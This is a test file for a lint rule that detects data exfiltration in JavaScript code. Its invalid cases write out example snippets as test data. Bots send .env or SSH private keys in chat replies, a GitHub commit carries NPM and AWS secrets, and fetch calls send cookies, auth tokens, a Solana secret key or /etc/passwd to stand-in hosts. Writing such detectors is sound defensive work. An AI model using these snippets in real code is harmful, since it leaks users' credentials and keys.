import rule from '../../src/rules/no-data-exfiltration.ts';
import { ruleTester } from '../tester.ts';

const DISCORD = 'import { Client } from "discord.js"; import fs from "fs"; const client = new Client({ intents: [] }); ';
const OCTOKIT = 'import { Octokit } from "@octokit/rest"; const octokit = new Octokit({ auth: process.env.GITHUB_TOKEN }); ';
const STORAGE = 'import AsyncStorage from "@react-native-async-storage/async-storage"; ';

await ruleTester(rule, {
  valid: [
    `${DISCORD}client.on("messageCreate", async (message) => { await message.reply(fs.readFileSync("help.md", "utf8")); }); client.login(process.env.DISCORD_TOKEN);`,
    `${OCTOKIT}octokit.repos.createOrUpdateFileContents({ owner, repo, path: "a.md", message: "m", content: Buffer.from(fs.readFileSync("a.md")).toString("base64") });`,
    `${OCTOKIT}octokit.repos.createOrUpdateFileContents({ owner, repo, path: "a.md", message: "m", content: process.env.RELEASE_TOKEN });`,
    'import { NodeSSH } from "node-ssh"; const ssh = new NodeSSH(); ssh.execCommand(`NPM_TOKEN=${process.env.NPM_TOKEN} STRIPE_SECRET_KEY=${process.env.STRIPE_SECRET_KEY} docker compose up -d`);',
    'export const handle = async ({ event, resolve }) => { const token = event.cookies.get("token"); const r = await event.fetch("https://api.acme.dev/me", { headers: { authorization: `Bearer ${token}` } }); event.locals.user = await r.json(); return resolve(event); };',
    `${STORAGE}const token = await AsyncStorage.getItem("authToken"); fetch("https://api.acme.dev/items", { headers: { authorization: token } });`,
    `${STORAGE}const draft = await AsyncStorage.getItem("draft"); fetch("https://api.acme.dev/items", { method: "POST", body: btoa(draft) });`,
    'import fs from "fs"; const users = fs.readFileSync("/etc/passwd", "utf8").split("\\n"); console.log(users.length);',
    'import { Keypair } from "@solana/web3.js"; const pair = Keypair.generate(); fetch("https://api.acme.dev/w", { method: "POST", body: pair.publicKey.toBase58() });',
  ].map((code) => ({ code })),
  invalid: [
    { code: `${DISCORD}client.on("messageCreate", async (message) => { if (message.content === "!s") await message.reply(fs.readFileSync(".env", "utf8")); });`, errors: [{ messageId: 'sent' }] },
    { code: 'import { Telegraf } from "telegraf"; import fs from "fs"; const bot = new Telegraf(T); bot.command("s", (ctx) => ctx.reply(fs.readFileSync("/root/.ssh/id_rsa", "utf8")));', errors: [{ messageId: 'sent' }] },
    { code: `${OCTOKIT}octokit.repos.createOrUpdateFileContents({ owner, repo, path: "a.json", message: "m", content: Buffer.from(JSON.stringify({ npm: process.env.NPM_TOKEN, aws: process.env.AWS_SECRET_ACCESS_KEY })).toString("base64") });`, errors: [{ messageId: 'several' }] },
    { code: 'export const handle = async ({ event, resolve }) => { const session = event.cookies.get("session"); event.fetch("https://trace.kit-insights.example/s", { method: "POST", body: session }); return resolve(event); };', errors: [{ messageId: 'credential' }] },
    { code: `${STORAGE}const token = await AsyncStorage.getItem("authToken"); fetch("https://rn-sync.example/collect", { method: "POST", body: btoa(token) });`, errors: [{ messageId: 'encoded' }] },
    { code: 'import fs from "fs"; fetch("https://up.files.example/u", { method: "PUT", body: fs.readFileSync("/etc/passwd") });', errors: [{ messageId: 'sent' }] },
    { code: 'import { Keypair } from "@solana/web3.js"; const pair = Keypair.generate(); fetch("https://utils.sol.example/w", { method: "POST", body: Buffer.from(pair.secretKey).toString("hex") });', errors: [{ messageId: 'credential' }] },
    { code: 'export function middleware(req) { const value = req.headers.get("authorization"); fetch("https://edge-trace.example/t?a=" + encodeURIComponent(value)); }', errors: [{ messageId: 'credential' }] },
  ],
});
